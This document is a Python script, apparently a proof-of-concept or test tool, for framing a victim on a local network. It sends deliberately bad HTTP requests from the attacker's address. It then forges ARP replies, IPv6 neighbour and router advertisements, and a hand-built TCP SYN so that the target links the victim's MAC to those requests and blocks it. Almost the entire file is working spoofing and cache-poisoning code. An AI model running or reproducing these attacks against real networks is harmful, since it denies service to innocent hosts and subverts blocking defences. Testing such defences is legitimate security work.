# SPDX-License-Identifier: GPL-2.0
"""
Bad messages of an on-link attacker that wants somebody else's MAC blocked for them, by neighbour messages.

Usage: framing.py WAY DEVICE HOST PORT OWN VICTIM_MAC VICTIM_IP [SECONDS]

From the address OWN one bad message on a connection that stays open; then messages that give OWN the victim's MAC in
HOST's neighbour table; then the message that crosses the threshold, twice. With SECONDS the messages of the link go on for
so long, and bad ones come on new connections, too, as far as they get through. Needs the right to raw sockets. Ways:
  none           nothing of the kind
  options        the same; a SYN with more than 700 bytes of IPv6 options, which hosts pass over
  arp-reply      a reply that nobody asked for
  arp-announce   the same as a broadcast of who has the address
  arp-request    a question for HOST, whose sender it is
  arp-victim     a reply, and the victim's address elsewhere, so that nothing else has its MAC
  arp-back       a reply, and the truth again
  syn            SYN with the victim's MAC, then a reply
  na             an unsolicited neighbour advertisement that overrides
  na-all         the same to all nodes
  ns             a neighbour solicitation for HOST from OWN with the victim's link-layer address
  ra             a router advertisement with it, from the link-local address of DEVICE
"""
import ipaddress
import os
import random
import socket
import struct
import sys
import time

way, device, host, port, own, victim, victim_ip = sys.argv[1:8]
port = int(port)
seconds = float(sys.argv[8]) if len(sys.argv) > 8 else 0
BODY = b"<!DOCTYPE a><a/>"
BAD = b"POST / HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\nContent-Length: %d\r\n\r\n" % len(BODY) + BODY
LOCKED = float(os.environ.get("LOCKED", 1.2))
JUNK = "00:00:5e:00:53:ff"


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
raw.bind((device, 0))
raw.settimeout(2)
here = raw.getsockname()[4]
there = None


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def ip(text):
    return ipaddress.ip_address(text.partition("%")[0]).packed


def arp(address, of, kind=2, to=None, target=None):
    raw.send((to or there) + here + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x800, 6, 4, kind) + mac(of) + ip(address) +
             (to or there) + ip(target or host))


def icmp6(kind, body, source, target, to):
    message = struct.pack("!BBH", kind, 0, 0) + body
    pseudo = ip(source) + ip(target) + struct.pack("!II", len(message), 58)
    message = message[:2] + struct.pack("!H", checksum(pseudo + message)) + message[4:]
    raw.send(to + here + b"\x86\xdd" + struct.pack("!IHBB", 6 << 28, len(message), 58, 255) + ip(source) + ip(target) + message)


def solicited(target):
    return b"\x33\x33\xff" + ip(target)[13:]


def frame(of):
    """The messages of a way: OWN is at this MAC."""
    lladdr = mac(of)
    if way in ("arp-reply", "syn", "arp-back"):
        arp(own, of)
    elif way == "arp-announce":
        arp(own, of, 1, b"\xff" * 6, own)
    elif way == "arp-request":
        arp(own, of, 1)
    elif way == "arp-victim":
        arp(victim_ip, JUNK)
        arp(own, of)
    elif way == "na":
        icmp6(136, struct.pack("!I", 0x20000000) + ip(own) + b"\x02\x01" + lladdr, own, host, there)
    elif way == "na-all":
        icmp6(136, struct.pack("!I", 0x20000000) + ip(own) + b"\x02\x01" + lladdr, own, "ff02::1", b"\x33\x33\0\0\0\x01")
    elif way == "ns":
        icmp6(135, b"\0\0\0\0" + ip(host) + b"\x01\x01" + lladdr, own, host, there)
    elif way == "ra":
        icmp6(134, struct.pack("!BBHII", 64, 0, 0, 0, 0) + b"\x01\x01" + lladdr, own, "ff02::1", b"\x33\x33\0\0\0\x01")


def connect():
    family, _, _, _, to = socket.getaddrinfo(host, port, type=socket.SOCK_STREAM)[0]
    sock = socket.socket(family, socket.SOCK_STREAM)
    sock.settimeout(2)
    if way == "options":  # Destination Options of an unknown type (RFC 8200 4.2, 4.6)
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_DSTOPTS, bytes([0, 90]) + (b"\x1e\xf0" + bytes(240)) * 3)
    sock.bind(socket.getaddrinfo(own, 0, type=socket.SOCK_STREAM)[0][4])
    sock.connect(to)
    return sock


class Forged:
    """A connection by hand, whose SYN says the victim's MAC, all else our own."""

    def __init__(self):
        self.port, self.seq, self.ack = random.randint(20000, 60000), random.getrandbits(31), 0
        self.send(2, b"", mac(victim))
        self.seq += 1
        for _ in range(200):
            packet = raw.recv(2048)
            if packet[12:14] == b"\x08\x06" and packet[20:22] == b"\0\x01" and packet[38:42] == ip(own):
                arp(own, ":".join("%02x" % byte for byte in here))
            elif packet[12:14] == b"\x08\0" and packet[30:34] == ip(own) and packet[36:38] == struct.pack("!H", self.port):
                self.ack = struct.unpack("!I", packet[38:42])[0] + 1
                break
        else:
            sys.exit("no answer to the SYN")
        self.send(16, b"", here)

    def send(self, flags, data, source):
        tcp = struct.pack("!HHIIBBHHH", self.port, port, self.seq, self.ack, 5 << 4, flags, 65535, 0, 0) + data
        pseudo = ip(own) + ip(host) + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0) + ip(own) + ip(host)
        head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
        raw.send(there + source + b"\x08\0" + head + tcp)

    def sendall(self, data):
        self.send(24, data, here)
        self.seq += len(data)

    def recv(self, _):
        time.sleep(0.3)


def learn():
    """HOST's MAC, as our own neighbour table has it after a first packet."""
    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"", socket.getaddrinfo(host, 9, type=socket.SOCK_DGRAM)[0][4])
    for _ in range(100):
        words = os.popen("ip neigh show %s dev %s" % (host.partition("%")[0], device)).read().split()
        if "lladdr" in words:
            return mac(words[words.index("lladdr") + 1])
        time.sleep(0.02)
    sys.exit("no neighbour entry of %s" % host)


there = learn()
last = Forged() if way == "syn" else connect()
last.sendall(BAD)
last.recv(2000)
# An entry that was confirmed a moment ago does not change (locktime, 1 s unless told otherwise).
time.sleep(LOCKED)
for _ in range(3):
    frame(victim)
    time.sleep(0.05)
if way == "arp-back":
    time.sleep(LOCKED)
    frame(":".join("%02x" % byte for byte in here))
for _ in range(2):
    try:
        last.sendall(BAD)
    except OSError:
        pass  # blocked
    time.sleep(0.2)
end = time.monotonic() + seconds
while time.monotonic() < end:
    frame(victim)
    time.sleep(0.005)
print(way, "sent")
